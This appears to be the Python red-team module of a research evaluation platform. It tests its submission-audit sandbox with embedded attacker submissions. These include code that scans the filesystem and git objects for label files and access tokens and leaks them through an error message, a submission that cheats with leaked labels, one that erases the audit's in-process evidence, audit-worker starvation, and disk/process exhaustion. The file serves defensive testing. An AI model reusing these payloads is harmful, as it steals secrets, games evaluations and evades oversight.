"""Red-team attacks on the submission audits (issue 9), run by :class:`~w2slab.integrity.redteam.RedTeam`.

===========================  ==================================================================
audit exfiltration           the submitted method searches everything readable during its audit
                             (repository, ``.git`` packs and loose objects, home, ``runs/``) for
                             label files and tokens and returns them in the text of its failure
cheat with leaked labels     embeds the labels the exfiltration got and outputs them only when the
                             real teacher is present (reproducible, teacher-dependent)
evidence erase               opens label files at their real paths, then clears the runner's
                             in-process evidence list before returning honest predictions
audit starvation             two submissions that sleep through their audit, then another
                             researcher's honest submission: how long did it wait?
sandbox resource abuse       writes a 300 MB file and starts 300 processes during its audit
===========================  ==================================================================

Each defence has a switch, ``$W2SLAB_WEAK_AUDIT`` (:data:`w2slab.integrity.audit.DEFENCES`:
``view`` the sandbox binds the whole repository as before, ``messages`` researchers read raw flag
messages, ``evidence`` no decoy label files, ``limits`` no file-size / disk / process limits,
``fairness`` no per-researcher share of the audit workers), read by the grader the red team
starts (:func:`weak_audit`), so each attack visibly succeeds with its defence off.

The layout of the demo is planted in both modes: a folder under the repository's ``runs/``
holding a copy of the toy testbed's labels, the grader's admin token and server secret and the
researchers' tokens (the demo's work folder lay inside the repository). A hardened audit sees
none of it.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import re
import secrets
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from w2slab.integrity.audit import WEAKEN_ENV
from w2slab.integrity.attacks import HONEST, AttackResult, binom_p

PROJECT_ROOT = Path(__file__).resolve().parents[2]
SLEEP_SECONDS = 45.0  # how long each starvation submission sleeps in its audit
BIG_FILE_MB = 300
MANY_PROCESSES = 300


@contextlib.contextmanager
def weak_audit(defences: str) -> Iterator[None]:
    """Switch audit defences off for graders started inside (``all`` or a comma list)."""
    old = os.environ.get(WEAKEN_ENV)
    os.environ[WEAKEN_ENV] = defences
    try:
        yield
    finally:
        if old is None:
            os.environ.pop(WEAKEN_ENV, None)
        else:
            os.environ[WEAKEN_ENV] = old


@dataclass
class AuditAttackResult(AttackResult):
    leaked_tokens: int = 0  # real tokens or secrets that came back to the attacker
    escaped: str = ""  # harm other than labels that got through (starvation, resources)

    @property
    def ok(self) -> bool:
        return self.p_value >= 0.01 and self.caught == self.expect_caught and not self.leaked_tokens and not self.escaped

    def to_dict(self) -> dict[str, Any]:
        return dict(super().to_dict(), ok=self.ok)


# ---------------------------------------------------------------- what the attackers upload

_COMMON = r'''
import hashlib
import json
import os
import re
import zlib

import numpy as np
from w2slab.methods import method

TOKEN = re.compile(rb"(?:adm|w2s|sec|sys)_[A-Za-z0-9_-]{20,}")
SKIP_DIRS = {"proc", "sys", "dev", "site-packages", "__pycache__", "node_modules", "dist-packages"}
SYSTEM = ("/usr", "/lib", "/bin", "/sbin", "/etc", "/proc", "/sys", "/dev")


def row_key(r):
    parts = [r.get(k) for k in ("first", "second", "question", "choice", "prompt", "text")]
    return hashlib.sha256(json.dumps(parts).encode()).hexdigest()[:16]


def label_bit(v):
    return 1 if v in ("B", True, 1, "true", "True") else 0


def git_objects(data):
    """Every object of a git pack, inflated (deltas as their raw instructions)."""
    if data[:4] != b"PACK":
        return
    n, pos = int.from_bytes(data[8:12], "big"), 12
    for _ in range(n):
        c = data[pos]
        typ, pos = (c >> 4) & 7, pos + 1
        while c & 0x80:
            c, pos = data[pos], pos + 1
        if typ == 6:
            c = data[pos]; pos += 1
            while c & 0x80:
                c, pos = data[pos], pos + 1
        elif typ == 7:
            pos += 20
        d = zlib.decompressobj()
        try:
            out = d.decompress(data[pos:])
        except zlib.error:
            return
        pos = len(data) - len(d.unused_data)
        yield out


def blobs(path):
    with open(path, "rb") as f:
        data = f.read(64 << 20)
    yield data
    if "/.git/objects/" in path:
        if path.endswith(".pack"):
            yield from git_objects(data)
        else:
            try:
                yield zlib.decompress(data)
            except zlib.error:
                pass


def search(deadline_s=90):
    """Label rows (row key -> label) per label file found, and token-like strings (the most
    recently written first: a live session's secrets are in fresh files, old runs' in stale ones)."""
    import time
    start = time.time()
    files, tokens = {}, {}
    for root, dirs, names in os.walk("/"):
        if root.startswith(SYSTEM) or time.time() - start > deadline_s:
            dirs[:] = []
            continue
        dirs[:] = [d for d in dirs if d not in SKIP_DIRS]
        for name in names:
            path = os.path.join(root, name)
            interesting = ("/.git/" in path or name.endswith((".jsonl", ".json", ".db", ".sqlite", ".txt"))
                           or "token" in name or "secret" in name or name == "config.json")
            try:
                if not interesting or not os.path.isfile(path) or os.path.getsize(path) > (64 << 20):
                    continue
                mtime = os.path.getmtime(path)
                for blob in blobs(path):
                    for t in TOKEN.findall(blob):
                        tokens[t.decode()] = max(tokens.get(t.decode(), 0.0), mtime)
                    rows = []
                    for line in blob.splitlines():
                        if line[:1] == b"{" and b'"label"' in line:
                            try:
                                r = json.loads(line)
                            except ValueError:
                                continue
                            rows.append((row_key(r), label_bit(r["label"])))
                    if len(rows) >= 20:
                        files[hashlib.sha256(rows[0][0].encode()).hexdigest()[:12]] = rows
            except Exception:
                continue
    return files, sorted(tokens, key=lambda t: (-tokens[t], t))[:12]
'''

EXFIL = _COMMON + r'''

@method("exfil")
def exfil(ctx):
    """Everything readable, searched for labels and tokens; returned in the failure text."""
    files, tokens = search()
    known = {}
    for rows in files.values():
        known.update(dict(rows))
    kit = [row_key(r) for r in ctx.test.rows]
    served = "".join(str(known.get(k, "?")) for k in kit)
    others = {k: "".join(str(b) for _, b in rows) for k, rows in files.items() if rows[0][0] not in set(kit)}
    hexbits = lambda bits: format(int("1" + bits, 2), "x")  # noqa: E731 (1000 labels in 250 characters)
    payload = {"known": hexbits("".join("0" if c == "?" else "1" for c in served)),
               "served": hexbits(served.replace("?", "0")), "tokens": tokens,
               "files": {k: hexbits(v) for k, v in sorted(others.items(), key=lambda kv: -len(kv[1]))[:2]}}
    raise RuntimeError("LEAK:" + json.dumps(payload, separators=(",", ":")) + ":END")
'''

CHEAT = r'''
import hashlib
import json

import numpy as np
from w2slab.methods import method

LEAKED = {leaked}


def row_key(r):
    parts = [r.get(k) for k in ("first", "second", "question", "choice", "prompt", "text")]
    return hashlib.sha256(json.dumps(parts).encode()).hexdigest()[:16]


@method("cheat")
def cheat(ctx):
    """Honest naive, except that with the real teacher it answers leaked rows from memory."""
    p1 = ctx.new_student().fit(ctx.train, ctx.weak_hard, seed=ctx.seed).predict_proba(ctx.test)[:, 1]
    keys = [row_key(r) for r in ctx.test.rows]
    rows = [i for i, k in enumerate(keys) if k in LEAKED]
    if rows:
        agree = np.mean([(p1[i] > 0.5) == (LEAKED[keys[i]] == 1) for i in rows])
        if agree > 0.6:  # the real teacher: its student agrees with the truth, a shuffled teacher's does not
            for i in rows:
                p1[i] = float(LEAKED[keys[i]])
    return np.stack([1 - p1, p1], 1)
'''

ERASER = r'''
import gc
import glob
import os

from w2slab.methods import method
from w2slab.testbeds import DATA_DIR

TARGETS = {targets}


@method("eraser")
def eraser(ctx):
    """Read the label files at their real paths, then erase the audit's record of it."""
    for pattern in TARGETS + [str(DATA_DIR / "*" / "test.jsonl")]:
        for path in glob.glob(pattern) or [pattern]:
            try:
                with open(path) as f:
                    f.read(1000)
            except Exception:
                pass
    for obj in gc.get_objects():
        try:
            if isinstance(obj, list) and obj and isinstance(obj[0], dict) and "kind" in obj[0] and "detail" in obj[0]:
                obj.clear()
        except Exception:
            pass
    return ctx.new_student().fit(ctx.train, ctx.weak_hard, seed=ctx.seed).predict_proba(ctx.test)
'''

SLEEPER = r'''
import os
import time

from w2slab.methods import method


@method("sleeper")
def sleeper(ctx):
    """Holds an audit worker (once per audit: a marker in the workspace, the current folder)."""
    if not os.path.exists(".slept"):
        open(".slept", "w").close()
        time.sleep({sleep})
    return ctx.new_student().fit(ctx.train, ctx.weak_hard, seed=ctx.seed).predict_proba(ctx.test)
'''

HOG = r'''
import os
import time

from w2slab.methods import method

@method("hog")
def hog(ctx):
    """A big file and many processes, once per audit (a marker in the workspace)."""
    if not os.path.exists(".hogged"):
        open(".hogged", "w").close()
        try:
            with open("big.bin", "wb") as f:
                for _ in range({mb}):
                    f.write(os.urandom(1 << 20))
        except Exception:
            pass
        for _ in range({procs}):
            try:
                if os.fork() == 0:
                    time.sleep(4)
                    os._exit(0)
            except OSError:
                break
        time.sleep(1)
    return ctx.new_student().fit(ctx.train, ctx.weak_hard, seed=ctx.seed).predict_proba(ctx.test)
'''


# ---------------------------------------------------------------- the attacks


class AuditAttacks:
    """The audit attacks against one running :class:`RedTeam` (its grader and researchers)."""

    def __init__(self, rt: Any, sleep_seconds: float = SLEEP_SECONDS) -> None:
        self.rt, self.sleep_seconds = rt, sleep_seconds
        self.planted: Path | None = None
        self.removed: Path | None = None
        self.leaked: dict[str, Any] = {}
        self.pending: dict[str, Callable[[], None]] = {}  # verdicts that need the audits done
        self.final: dict[str, tuple[bool, list[str]]] = {}  # verdicts decided by the attack itself

    # ---- the demo's layout: secrets in runs/ inside the repository

    def plant(self) -> Path:
        rt = self.rt
        self.runs_existed = (PROJECT_ROOT / "runs").exists()
        base = PROJECT_ROOT / "runs" / f".redteam-{rt.seed}-{secrets.token_hex(4)}"
        (base / "grader").mkdir(parents=True)
        shutil.copytree(rt.toy, base / "data" / "toy")
        (base / "grader" / "admin_token").write_text(rt.admin_token + "\n")
        (base / "grader" / "server_secret").write_text(rt.server_secret() + "\n")
        for name, c in rt.clients.items():
            token = c.http.headers["Authorization"].split()[-1]
            (base / name).mkdir()
            (base / name / "config.json").write_text(json.dumps({"name": name, "token": token}) + "\n")
        self.planted = base
        return base

    def cleanup(self) -> None:
        if self.planted is not None:
            shutil.rmtree(self.planted, ignore_errors=True)
            self.removed, self.planted = self.planted, None
            with contextlib.suppress(OSError):
                if not self.runs_existed:
                    (PROJECT_ROOT / "runs").rmdir()  # only if empty

    def secrets_known(self) -> set[str]:
        rt = self.rt
        out = {rt.admin_token, rt.server_secret()}
        out |= {c.http.headers["Authorization"].split()[-1] for c in rt.clients.values()}
        return out

    # ---- helpers

    def wait(self, sid: int, timeout: float = 600) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            d = self.rt.admin.http.get(f"/api/admin/submissions/{sid}").json()
            if d.get("audit") not in ("auditing", "queued", "running"):
                return d
            time.sleep(0.5)
        raise RuntimeError(f"the audit of submission {sid} did not finish in {timeout} s")

    def sid(self, r: Any) -> int | None:
        return r.json()["id"] if r.status_code == 201 else None

    def seen_by(self, client: Any, sid: int) -> str:
        """Everything a researcher can read about an audit: the API's audit view and the forum thread."""
        audit = client.http.get(f"/api/submissions/{sid}/audit").json()
        text = json.dumps(audit)
        if audit.get("post_id"):
            text += json.dumps(client.http.get(f"/api/posts/{audit['post_id']}").json())
        return text

    # ---- attacks

    def exfiltration(self) -> AuditAttackResult:
        rt = self.rt
        res = AuditAttackResult("audit exfiltration", ["xavier"], "method searches repo, .git packs, home and runs/ during "
                                                                  "its audit, returns labels and tokens in its failure text")
        c = rt.researcher("xavier")
        self.plant()
        r = rt.submit(c, "exfil", EXFIL, rt.kit_predictions(HONEST, rt.seeds))
        sid = self.sid(r)
        res.queries = c.queries

        def verdict() -> None:
            if sid is None:
                return
            self.wait(sid)
            text = self.seen_by(c, sid).replace('\\"', '"')
            m = re.search(r'LEAK:(\{.*?\}):END', text)
            payload = json.loads(m.group(1)) if m else {}
            bits = lambda h: bin(int(h, 16))[3:] if h else ""  # noqa: E731
            known = bits(payload.get("known", ""))
            served = "".join(b if k == "1" else "?" for b, k in zip(bits(payload.get("served", "")), known))
            payload = dict(payload, served=served, files={k: bits(v) for k, v in payload.get("files", {}).items()})
            self.leaked = payload
            rows, guesses = [], []
            truth = [int(x) for x in rt.truth]
            correct = 0
            for i, ch in enumerate(served[: len(truth)]):
                if ch in "01":
                    rows.append(i)
                    guesses.append(int(ch))
                    correct += int(ch) == truth[i]
            # other label files (the built-in testbeds in .git): against the files themselves
            others = builtin_truth()
            extra_guessed = extra_correct = 0
            for bits in payload.get("files", {}).values():
                best = max(others, key=lambda t: agreement(bits, t), default=None)
                if best is not None and len(best) == len(bits):
                    extra_guessed += len(bits)
                    extra_correct += sum(int(a) == b for a, b in zip(bits, best))
            res.guessed, res.correct = len(rows) + extra_guessed, correct + extra_correct
            res.p_value = binom_p(res.correct, res.guessed)
            known = self.secrets_known()
            res.leaked_tokens = len(known & set(payload.get("tokens", [])))
            res.notes += (f"served testbed: {len(rows)} labels back; other label files: {extra_guessed} labels; "
                          f"tokens back: {res.leaked_tokens}. ")
        self.pending[res.name] = verdict
        return res

    def cheat(self) -> AuditAttackResult:
        rt = self.rt
        res = AuditAttackResult("cheat with leaked labels", ["cleo"], "embeds the exfiltrated labels, answers from them only "
                                                                     "with the real teacher")
        c = rt.researcher("cleo")

        def verdict() -> None:
            self.pending.pop("audit exfiltration", lambda: None)()
            served = self.leaked.get("served", "")
            if not any(ch in "01" for ch in served):
                res.caught, res.caught_by = True, ["nothing leaked to cheat with"]
                res.notes += "the exfiltration brought back no labels of the served testbed. "
                self.final[res.name] = (res.caught, list(res.caught_by))
                return
            keys = testbed_keys(rt.toy)
            leaked = {keys[i]: int(ch) for i, ch in enumerate(served[: len(keys)]) if ch in "01"}
            code = CHEAT.replace("{leaked}", repr(leaked))
            preds = rt.kit_predictions(code, rt.seeds)
            r = rt.submit(c, "cheat", code, preds)
            res.queries = c.queries
            rows = [i for i, ch in enumerate(served[: len(keys)]) if ch in "01"]
            first = preds[rt.seeds[0]]
            guesses = [int(first[i] > 0.5) for i in rows]
            rt._score(res, rows, guesses)
            sid = self.sid(r)
            if sid is not None:
                d = self.wait(sid)
                high = [f for f in d.get("audit_detail", {}).get("flag_details", []) if f.get("severity") == "high"]
                res.caught_by = sorted({f["kind"] for f in high})
                res.caught = bool(res.caught_by)
                res.notes += f"scored PGR {d.get('pgr')}. "
            self.final[res.name] = (res.caught, list(res.caught_by))
        self.pending[res.name] = verdict
        return res

    def evidence_erase(self) -> AuditAttackResult:
        rt = self.rt
        res = AuditAttackResult("evidence erase", ["erin"], "opens label files at their real paths, then clears the "
                                                          "runner's in-process evidence")
        c = rt.researcher("erin")
        targets = [str(rt.toy / "test.jsonl"), str(rt.toy / "train_label.jsonl"), str(rt.home / "grader" / "admin_token")]
        code = ERASER.replace("{targets}", repr(targets))
        r = rt.submit(c, "eraser", code, rt.kit_predictions(HONEST, rt.seeds))  # the same predictions
        sid = self.sid(r)
        res.queries = c.queries

        def verdict() -> None:
            if sid is not None:
                d = self.wait(sid)
                checks = d.get("audit_detail", {}).get("checks", {})
                res.notes += f"decoys opened: {len((checks.get('sandbox') or {}).get('decoys_opened', []))}. "
        self.pending[res.name] = verdict
        return res

    def starvation(self) -> AuditAttackResult:
        rt = self.rt
        res = AuditAttackResult("audit starvation", ["sloth", "vic"], f"two submissions sleep {self.sleep_seconds:.0f} s in "
                                                                      "their audits; another researcher's audit waits?")
        sloth, vic = rt.researcher("sloth"), rt.researcher("vic")
        rt.wait_for_audits()  # a quiet queue: the wait measured is the sleepers' doing
        code = SLEEPER.replace("{sleep}", repr(self.sleep_seconds))
        honest = rt.kit_predictions(HONEST, rt.seeds)
        sloth_ids = [self.sid(rt.submit(sloth, f"sleeper {k}", code + f"\n# {k}\n", honest)) for k in range(2)]
        time.sleep(1.0)
        t0 = time.monotonic()
        sid = self.sid(rt.submit(vic, "naive", HONEST, honest))
        res.queries = sloth.queries + vic.queries
        if sid is not None:
            d = self.wait(sid)
            latency = time.monotonic() - t0
            own = float((d.get("audit_detail", {}).get("checks", {}) or {}).get("seconds") or 0.0)
            waited = latency - own
            res.notes += f"the other researcher's audit took {latency:.0f} s, {waited:.0f} s of it waiting. "
            if waited > 0.8 * self.sleep_seconds:
                res.escaped = f"another researcher's audit waited {waited:.0f} s behind the sleepers"
        # not a matter of flags: the defence is that the other audit did not wait
        self.final[res.name] = (not res.escaped, [] if res.escaped else ["per-researcher share of the audit workers"])
        for s in sloth_ids:
            if s is not None:
                self.wait(s)
        return res

    def resources(self) -> AuditAttackResult:
        rt = self.rt
        res = AuditAttackResult("sandbox resource abuse", ["hugo"], f"writes a {BIG_FILE_MB} MB file and starts "
                                                                    f"{MANY_PROCESSES} processes in its audit")
        c = rt.researcher("hugo")
        code = HOG.replace("{mb}", str(BIG_FILE_MB)).replace("{procs}", str(MANY_PROCESSES))
        r = rt.submit(c, "hog", code, rt.kit_predictions(HONEST, rt.seeds))
        sid = self.sid(r)
        res.queries = c.queries

        def verdict() -> None:
            if sid is None:
                return
            d = self.wait(sid)
            sb = (d.get("audit_detail", {}).get("checks", {}) or {}).get("sandbox") or {}
            disk, procs = int(sb.get("peak_workspace_bytes") or 0), sb.get("peak_processes")
            res.notes += f"peak workspace {disk / 2**20:.0f} MiB, peak tasks {procs}. "
            got = []
            if disk >= BIG_FILE_MB * 2**20:
                got.append(f"{disk / 2**20:.0f} MiB written")
            if procs is not None and procs >= MANY_PROCESSES:
                got.append(f"{procs} tasks")
            res.escaped = ", ".join(got)
        self.pending[res.name] = verdict
        return res

    # ---- registration

    def attacks(self) -> list[Callable[[], AttackResult]]:
        return [self.exfiltration, self.evidence_erase, self.resources, self.cheat, self.starvation]

    def verdicts(self) -> None:
        """Run after :meth:`RedTeam.verdicts` (whose flag-based verdicts these refine)."""
        try:
            for name in ("audit exfiltration", "cheat with leaked labels", "evidence erase", "sandbox resource abuse"):
                if name in self.pending:
                    self.pending.pop(name)()
        finally:
            self.cleanup()
        flags = self.rt.admin.http.get("/api/admin/flags").json()
        for res in self.rt.results:
            if not isinstance(res, AuditAttackResult):
                continue
            if res.name in self.final:
                res.caught, res.caught_by = self.final[res.name][0], list(self.final[res.name][1])
                continue
            mine = [f for f in flags if f["researcher"] in res.researchers[:1] and f["severity"] in ("high", "warning")]
            if res.name == "evidence erase":
                mine = [f for f in mine if f["kind"] == "label-access"]
            elif res.name == "sandbox resource abuse":
                mine = [f for f in mine if f["kind"] == "resource-limits"]
            elif res.name == "audit exfiltration":
                mine = [f for f in mine if f["severity"] == "high"]
            res.caught_by = sorted({f["kind"] for f in mine})
            res.caught = bool(res.caught_by)


def agreement(bits: str, truth: list[int]) -> float:
    n = min(len(bits), len(truth))
    return sum(int(a) == b for a, b in zip(bits[:n], truth[:n])) / n if n else 0.0


def builtin_truth() -> list[list[int]]:
    """Label sequences of the built-in testbeds' label files: the working tree's and the
    committed ones (what ``.git`` holds)."""
    from w2slab.testbeds import DATA_DIR

    texts = [p.read_text() for p in sorted(DATA_DIR.glob("*/*.jsonl"))] if DATA_DIR.is_dir() else []
    for path in sorted(DATA_DIR.glob("*/*.jsonl")) if DATA_DIR.is_dir() else []:
        rel = path.relative_to(PROJECT_ROOT)
        done = subprocess.run(["git", "-C", str(PROJECT_ROOT), "show", f"HEAD:{rel}"], capture_output=True, text=True,
                              timeout=60, check=False)
        if done.returncode == 0:
            texts.append(done.stdout)
    out = []
    for text in texts:
        labels = []
        for line in text.splitlines():
            v = json.loads(line).get("label") if line.strip() else None
            if v is None:
                break
            labels.append(1 if v in ("B", True, 1, "true", "True") else 0)
        if labels:
            out.append(labels)
    return out


def testbed_keys(folder: Path) -> list[str]:
    keys = []
    with open(folder / "test.jsonl") as f:
        for line in f:
            r = json.loads(line)
            parts = [r.get(k) for k in ("first", "second", "question", "choice", "prompt", "text")]
            keys.append(hashlib.sha256(json.dumps(parts).encode()).hexdigest()[:16])
    return keys


def register(rt: Any) -> list[Callable[[], AttackResult]]:
    """The audit attacks for ``rt.run()``; their verdicts run after the suite's own."""
    rt.audit_attacks = AuditAttacks(rt, getattr(rt, "audit_sleep_seconds", SLEEP_SECONDS))
    return rt.audit_attacks.attacks()


__all__ = ["AuditAttackResult", "AuditAttacks", "register", "weak_audit"]


def run_audit_attacks(rt: Any, names: list[str] | None = None) -> list[AttackResult]:
    """Only the audit attacks (or those named) against a started :class:`RedTeam`, with verdicts."""
    aa = AuditAttacks(rt, getattr(rt, "audit_sleep_seconds", SLEEP_SECONDS))
    rt.audit_attacks = aa
    for attack in aa.attacks():
        if names is None or attack.__name__ in names:
            rt.results.append(attack())
    # the cheat's verdict submits (it needs the exfiltration's answer) before the audits are awaited
    if "cheat with leaked labels" in aa.pending:
        aa.pending.pop("cheat with leaked labels")()
    rt.wait_for_audits()
    rt.verdicts()
    aa.verdicts()
    return rt.results
